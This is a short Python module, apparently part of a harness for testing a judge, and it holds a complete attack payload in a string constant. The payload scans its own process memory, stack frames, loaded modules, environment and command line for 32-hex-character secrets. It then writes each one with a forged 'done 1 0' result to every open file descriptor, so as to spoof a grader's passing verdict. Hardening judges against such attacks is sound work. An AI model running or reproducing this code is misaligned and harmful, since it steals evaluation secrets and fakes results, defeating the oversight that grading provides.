"""Source that searches the memory of its own process, for attacks that look for a secret of their judge."""

SEARCH = """
import gc, os, re, sys, threading

def climb():
    frame = sys._getframe()
    while frame:
        yield frame
        frame = frame.f_back

def reach(start, left=300_000):
    seen, waiting = set(), list(start)
    while waiting and left:
        thing = waiting.pop()
        if id(thing) in seen:
            continue
        seen.add(id(thing))
        left -= 1
        yield thing
        waiting += gc.get_referents(thing)

def words(things):
    for thing in things:
        if type(thing) is str or type(thing) is bytes:
            text = thing.decode("latin-1") if type(thing) is bytes else thing
            yield from re.findall("(?<![0-9a-f])[0-9a-f]{32}(?![0-9a-f])", text)

def send(found, line):
    for word in set(found):
        for number in range(3, 1024):
            try:
                os.write(number, f"{word} {line}\\n".encode())
            except OSError:
                pass

def search(line="done 1 0"):
    start = [frame for frame in climb()]
    start += [frame.f_locals for frame in start] + [frame.f_globals for frame in start]
    send(words(reach(start + gc.get_objects() + list(sys.modules.values()))), line)
    for name in ("cmdline", "environ"):
        if os.access(f"/proc/self/{name}", os.R_OK):
            send(words([open(f"/proc/self/{name}", "rb").read()]), line)
"""
